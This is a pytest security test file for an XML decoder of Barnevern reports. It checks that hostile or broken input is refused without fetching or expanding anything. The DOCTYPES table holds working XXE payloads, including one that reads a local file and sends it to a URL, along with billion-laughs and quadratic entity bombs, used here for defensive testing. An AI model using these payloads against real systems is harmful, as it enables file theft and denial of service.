"""XML that means us harm, or came out of a broken program: always a defined fault or a document, never more."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from bvr.decode import DEFAULT_LIMITS, Decoded, Limits, decode
from bvr.faults import KINDS
from bvr.model.versions import CURRENT, SUPPORTED
from tests.security import worst
from tests.security.worst import BROKEN, VALID, case, fill, key

ROOT = Path(__file__).resolve().parents[2]
WHOLE = case("")
BODY = WHOLE.partition(b"?>")[2].strip()
MEGABYTES = 200
SECONDS = 10


def refused(data: bytes, kind: str = "xml", version: str = CURRENT) -> Decoded:
    decoded = decode(data, version)
    assert decoded.document is None
    assert [fault.kind for fault in decoded.faults][:1] == [kind]
    for fault in decoded.faults:
        assert fault.kind in KINDS
        assert fault.nb
        assert fault.en
    return decoded


def accepted(data: bytes) -> None:
    decoded = decode(data, CURRENT)
    assert decoded.faults == ()
    assert decoded.document == decode(WHOLE, CURRENT).document


# --- not XML ---------------------------------------------------------------------------------------------------------

NOT_XML = {
    "empty": b"",
    "white space": b" \n\t\r\n",
    "a byte order mark alone": b"\xef\xbb\xbf",
    "a UTF-16 mark alone": b"\xff\xfe",
    "a NUL": b"\0",
    "NULs": b"\0" * 1000,
    "text": "Hei på deg".encode(),
    "JSON": b'{"xsdVersion": 4, "xmlBody": ""}',
    "a zip file": b"PK\x03\x04" + bytes(range(256)),
    "a gzip file": b"\x1f\x8b\x08" + bytes(range(256)),
    "a PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "base64": b"PEJhcm5ldmVybi8+",
    "escaped": b"&lt;Barnevern/&gt;",
    "half a tag": b"<",
    "half a name": b"<Barnevern",
    "half a comment": b"<!--",
    "half CDATA": b"<Barnevern><![CDATA[",
    "half an instruction": b"<?xml",
    "an end tag": b"</Barnevern>",
    "crossing tags": b"<Barnevern><Sak></Barnevern></Sak>",
    "two roots": b"<Barnevern/><Barnevern/>",
    "text after the root": BODY + b"x",
    "text before the root": b"x" + BODY,
    "the declaration twice": b'<?xml version="1.0"?>' * 2 + BODY,
    "white space before the declaration": b" " + WHOLE,
    "an unquoted attribute": b"<Barnevern Id=1/>",
    "an attribute twice": b'<Barnevern Id="1" Id="2"/>',
    "an undeclared prefix": b"<bv:Barnevern/>",
    "an undeclared entity": b"<Barnevern>&nbsp;</Barnevern>",
    "a reference to no character": b"<Barnevern>&#0;</Barnevern>",
    "a reference to half a character": b"<Barnevern>&#xD800;</Barnevern>",
    "a control character": b"<Barnevern>\x01</Barnevern>",
    "a NUL inside": WHOLE.replace(b"2020/17", b"2020\x0017"),
    "a NUL at the end": WHOLE + b"\0",
    "a bare ampersand": b"<Barnevern>&</Barnevern>",
    "a dash too many": b"<Barnevern><!-- -- --></Barnevern>",
    "an unknown XML version": WHOLE.replace(b'version="1.0"', b'version="x"'),
    "latin-1 called UTF-8": WHOLE.replace("ø".encode(), b"\xf8").replace("Eksempelleverandør".encode(), b"Eks\xf8"),
    "an unknown encoding": WHOLE.replace(b"UTF-8", b"UTF-9"),
    "an empty encoding": WHOLE.replace(b"UTF-8", b""),
    "UTF-7": WHOLE.replace(b"UTF-8", b"UTF-7"),
    "EBCDIC": WHOLE.decode().encode("cp037"),
    "UTF-8 called UTF-16": WHOLE.replace(b"UTF-8", b"UTF-16LE"),
    "UTF-16 cut in half a character": WHOLE.decode().encode("utf-16")[:-1],
    "overlong UTF-8": WHOLE.replace(b"2020/17", b"2020\xc0\xaf17"),
    "a surrogate in UTF-8": WHOLE.replace(b"2020/17", b"\xed\xa0\x80"),
}


@pytest.mark.parametrize("name", NOT_XML)
def test_what_is_not_xml_is_a_fault(name: str) -> None:
    (fault,) = refused(NOT_XML[name]).faults
    assert "Barnevern" not in fault.path


def test_an_empty_document_is_called_empty() -> None:
    for data in (b"", b" ", b"\n"):
        (fault,) = refused(data).faults
        assert fault.en == "The document is empty."


def test_cut_off_anywhere() -> None:
    for at in range(0, len(WHOLE.rstrip()), 7):
        refused(WHOLE[:at])


def test_any_byte_replaced_is_a_fault_or_a_document() -> None:
    for at in range(0, len(WHOLE), 3):
        for byte in (b"\0", b"<", b"\xff", b"&", b'"', b"\x1b", b"=", b"]"):
            decoded = decode(WHOLE[:at] + byte + WHOLE[at + 1 :], CURRENT)
            assert (decoded.document is None) == bool(decoded.faults)


# --- encodings -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "iso-8859-1", "windows-1252", "iso-8859-15", "utf-16"])
def test_a_declared_encoding_is_read(encoding: str) -> None:
    accepted(WHOLE.decode().replace("UTF-8", encoding).encode(encoding))


def test_a_byte_order_mark_is_read() -> None:
    accepted(b"\xef\xbb\xbf" + WHOLE)
    accepted(b"\xef\xbb\xbf" + BODY)
    accepted(BODY)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf_16_is_read_with_a_declaration_and_without(encoding: str) -> None:
    accepted(BODY.decode().encode("utf-16"))
    accepted(WHOLE.decode().replace("UTF-8", "UTF-16").encode("utf-16"))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_limits_hold_in_wide_encodings(encoding: str) -> None:
    """A document is not let off for taking two or four bytes a character."""
    data = case("<x/>" * (DEFAULT_LIMITS.elements + 10)).decode().replace("UTF-8", encoding).encode(encoding)
    decoded = decode(data, CURRENT)
    assert decoded.document is None
    assert decoded.faults[0].kind in ("size", "xml")


# --- document types, entities, inclusion -----------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A server that nobody should call: its address, and what it was asked."""
    calls: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        stop = threading.Event()

        def serve() -> None:
            while not stop.is_set():
                try:
                    peer, _ = server.accept()
                except TimeoutError:
                    continue
                with peer:
                    calls.append(peer.recv(1000))
                    peer.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 1\r\n\r\nx")

        thread = threading.Thread(target=serve)
        thread.start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", calls
        time.sleep(0.1)
        stop.set()
        thread.join()


def _laughs(levels: int, width: int) -> bytes:
    lines = [b'<!ENTITY a0 "haha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * width}">'.encode() for n in range(1, levels)]
    return b"<!DOCTYPE Barnevern [" + b"".join(lines) + b"]>" + BODY.replace(b"2020/17", b"&a%d;" % (levels - 1))


DOCTYPES: dict[str, Callable[[str, Path], bytes]] = {
    "bare": lambda url, file: b"<!DOCTYPE Barnevern>" + BODY,
    "lower case": lambda url, file: b"<!DOCTYPE barnevern []>" + BODY,
    "empty": lambda url, file: b"<!DOCTYPE Barnevern []>" + BODY,
    "system file": lambda url, file: f'<!DOCTYPE Barnevern SYSTEM "{file.as_uri()}">'.encode() + BODY,
    "system address": lambda url, file: f'<!DOCTYPE Barnevern SYSTEM "{url}/x.dtd">'.encode() + BODY,
    "public": lambda url, file: f'<!DOCTYPE Barnevern PUBLIC "-//x//y" "{url}/x.dtd">'.encode() + BODY,
    "after a comment": lambda url, file: b"<!-- x --><!DOCTYPE Barnevern []>" + BODY,
    "far down": lambda url, file: b"<!-- " + b"x" * 100_000 + b" --><!DOCTYPE Barnevern []>" + BODY,
    "with a mark": lambda url, file: b"\xef\xbb\xbf<!DOCTYPE Barnevern []>" + BODY,
    "in UTF-16": lambda url, file: ("<!DOCTYPE Barnevern []>" + BODY.decode()).encode("utf-16"),
    "an internal entity": lambda url, file: (
        b'<!DOCTYPE Barnevern [<!ENTITY a "2020">]>' + BODY.replace(b"2020/17", b"&a;")
    ),
    "a file as an entity": lambda url, file: (
        f'<!DOCTYPE Barnevern [<!ENTITY a SYSTEM "{file.as_uri()}">]>'.encode() + BODY.replace(b"</Sak>", b"&a;</Sak>")
    ),
    "an address as an entity": lambda url, file: (
        f'<!DOCTYPE Barnevern [<!ENTITY a SYSTEM "{url}/a">]>'.encode() + BODY.replace(b"</Sak>", b"&a;</Sak>")
    ),
    "a parameter entity": lambda url, file: (
        f'<!DOCTYPE Barnevern [<!ENTITY % a SYSTEM "{url}/a"> %a;]>'.encode() + BODY
    ),
    "a file sent to an address": lambda url, file: (
        (
            f'<!DOCTYPE Barnevern [<!ENTITY % f SYSTEM "{file.as_uri()}">'
            f"<!ENTITY % e \"<!ENTITY &#37; s SYSTEM '{url}/?%f;'>\">%e;%s;]>"
        ).encode()
        + BODY
    ),
    "default attributes": lambda url, file: b'<!DOCTYPE Barnevern [<!ATTLIST Sak Avsluttet CDATA "true">]>' + BODY,
    "an entity that holds itself": lambda url, file: (
        b'<!DOCTYPE Barnevern [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + BODY.replace(b"2020/17", b"&a;")
    ),
    "a notation": lambda url, file: b'<!DOCTYPE Barnevern [<!NOTATION a SYSTEM "b">]>' + BODY,
    "a billion laughs": lambda url, file: _laughs(10, 10),
    "quadratic blowup": lambda url, file: (
        b'<!DOCTYPE Barnevern [<!ENTITY a "' + b"x" * 50_000 + b'">]>' + BODY.replace(b"2020/17", b"&a;" * 50_000)
    ),
}


@pytest.mark.parametrize("name", DOCTYPES)
def test_a_document_type_is_refused_and_nothing_in_it_is_done(
    name: str, listener: tuple[str, list[bytes]], tmp_path: Path
) -> None:
    secret = tmp_path / "hemmelig.txt"
    secret.write_text("hemmelig-innhold")
    url, calls = listener
    start = time.perf_counter()
    decoded = refused(DOCTYPES[name](url, secret))
    assert time.perf_counter() - start < 2
    assert len(decoded.faults) == 1
    assert "DOCTYPE" in decoded.faults[0].en
    assert "hemmelig-innhold" not in str(decoded)
    time.sleep(0.1)
    assert calls == []


@pytest.mark.parametrize("version", SUPPORTED)
def test_inclusion_is_not_done(version: str, listener: tuple[str, list[bytes]], tmp_path: Path) -> None:
    secret = tmp_path / "hemmelig.txt"
    secret.write_text("hemmelig-innhold")
    url, calls = listener
    for target in (secret.as_uri(), f"{url}/x"):
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
        decoded = refused(case(include), "schema", version)
        assert "hemmelig" not in str(decoded)
    assert calls == []


def test_stylesheets_and_schema_hints_are_not_fetched(listener: tuple[str, list[bytes]]) -> None:
    url, calls = listener
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    hint = f'<Barnevern {xsi} xsi:noNamespaceSchemaLocation="{url}/x.xsd" xsi:schemaLocation="urn:x {url}/y.xsd"'
    sheet = f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?><?xml-model href="{url}/x.rnc"?>'
    accepted(sheet.encode() + BODY.replace(b"<Barnevern", hint.encode(), 1))
    time.sleep(0.2)
    assert calls == []


# --- depth, width, limits --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [100, 255, 300, 2_000, 12_000])
def test_depth(depth: int) -> None:
    decoded = decode(case("<Tiltak>" * depth + "</Tiltak>" * depth), CURRENT)
    assert decoded.document is None
    assert decoded.faults[0].kind in ("xml", "schema")
    assert decode(b"<a>" * depth, CURRENT).faults[0].kind == "xml"


def test_every_limit_is_told_with_its_figures() -> None:
    small = Limits(bytes=2_000, elements=20, attributes=60)
    for data, figure in (
        (case("x" * 2_000), "2000"),
        (case("<x/>" * 30), "20"),
        (case(f"<x {'a=1 ' * 80}/>"), "60"),
    ):
        (fault,) = decode(data, CURRENT, small).faults
        assert fault.kind == "size"
        assert figure in fault.nb
        assert figure in fault.en


def test_just_under_the_limits_is_read() -> None:
    data = fill(lambda n: f'<Melding Id="{key(n)}" StartDato="2024-01-01"/>')
    decoded = decode(data, CURRENT)
    assert decoded.document is not None
    one_more = f'<Melding Id="{key(0)}" StartDato="2024-01-01"/>'.encode()
    over = data.replace(b"</Sak>", one_more * 3 + b"</Sak>")
    assert decode(over, CURRENT).faults[0].kind == "size"


def test_faults_are_listed_to_a_limit_and_counted_beyond_it() -> None:
    decoded = refused(case("<Slettet/>" * 500), "schema")
    assert len(decoded.faults) == DEFAULT_LIMITS.faults
    assert decoded.more > 0


def test_the_same_document_is_told_the_same_each_time() -> None:
    for name in ("wrong codes", "empty Slettet", "depth"):
        data = BROKEN[name]()
        assert decode(data, CURRENT) == decode(data, CURRENT)


# --- cost ------------------------------------------------------------------------------------------------------------


def _measure(data: bytes, file: Path) -> dict[str, float]:
    file.write_bytes(data)
    done = subprocess.run(
        [sys.executable, "-m", "tests.security.measure", str(file)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": os.pathsep.join((str(ROOT / "functions"), str(ROOT)))},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    found: dict[str, float] = json.loads(done.stdout)
    return found


@pytest.mark.slow
@pytest.mark.parametrize("name", VALID)
def test_the_costliest_valid_documents(name: str, tmp_path: Path) -> None:
    data = VALID[name]()
    assert len(data) <= DEFAULT_LIMITS.bytes
    found = _measure(data, tmp_path / "x.xml")
    assert found["faults"] == 0
    assert found["megabytes"] < MEGABYTES
    assert found["seconds"] < SECONDS


@pytest.mark.slow
@pytest.mark.parametrize("name", BROKEN)
def test_the_costliest_broken_documents(name: str, tmp_path: Path) -> None:
    data = BROKEN[name]()
    assert len(data) <= DEFAULT_LIMITS.bytes
    found = _measure(data, tmp_path / "x.xml")
    assert 0 < found["faults"] <= DEFAULT_LIMITS.faults
    assert found["megabytes"] < MEGABYTES
    assert found["seconds"] < SECONDS


def test_a_valid_document_may_be_as_large_as_the_limit() -> None:
    """The measurements would say little if nothing near ten million bytes were among them."""
    assert max(len(make()) for make in VALID.values()) > 0.97 * DEFAULT_LIMITS.bytes
    assert worst.fill(lambda n: "<x/>").count(b"<x/>") > 0.98 * DEFAULT_LIMITS.elements
